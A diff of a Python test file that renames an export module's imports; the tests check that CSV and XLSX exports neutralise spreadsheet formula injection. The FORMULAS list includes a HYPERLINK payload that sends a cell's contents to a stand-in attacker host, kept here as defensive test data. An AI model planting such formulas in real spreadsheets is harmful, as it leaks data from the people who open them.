@@ -9,8 +9,8 @@ from datetime import UTC, datetime
 import pytest
 from openpyxl import load_workbook
 
-from confbridge.reports import export
-from confbridge.reports.export import Column, Document, Kind, Table
+from confbridge import exports
+from confbridge.exports import Column, Document, Kind, Table
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
@@ -33,7 +33,7 @@ def document(names: list[str]) -> Document:
 
 
 def test_export_xlsx_writes_formula_like_names_as_text() -> None:
-    workbook = load_workbook(io.BytesIO(export.to_xlsx(document([*FORMULAS, "Xã An Bình"]))))
+    workbook = load_workbook(io.BytesIO(exports.to_xlsx(document([*FORMULAS, "Xã An Bình"]))))
     sheet = workbook["Điểm danh"]
     cells = [sheet.cell(row, 1) for row in range(2, 2 + len(FORMULAS) + 1)]
     # XML reads a stored CR back as LF
@@ -47,12 +47,12 @@ def test_export_xlsx_writes_formula_like_names_as_text() -> None:
 
 @pytest.mark.parametrize("name", FORMULAS)
 def test_export_csv_prefixes_formula_like_names_with_an_apostrophe(name: str) -> None:
-    text = export.to_csv(document([name])).decode("utf-8-sig")
+    text = exports.to_csv(document([name])).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[1] == ["'" + name, "-5", "50.00"]
 
 
 def test_export_csv_leaves_ordinary_names_alone() -> None:
-    text = export.to_csv(document(["Xã An Bình", "UBND 'Hạ Long'"])).decode("utf-8-sig")
+    text = exports.to_csv(document(["Xã An Bình", "UBND 'Hạ Long'"])).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     assert [r[0] for r in rows[1:]] == ["Xã An Bình", "UBND 'Hạ Long'"]
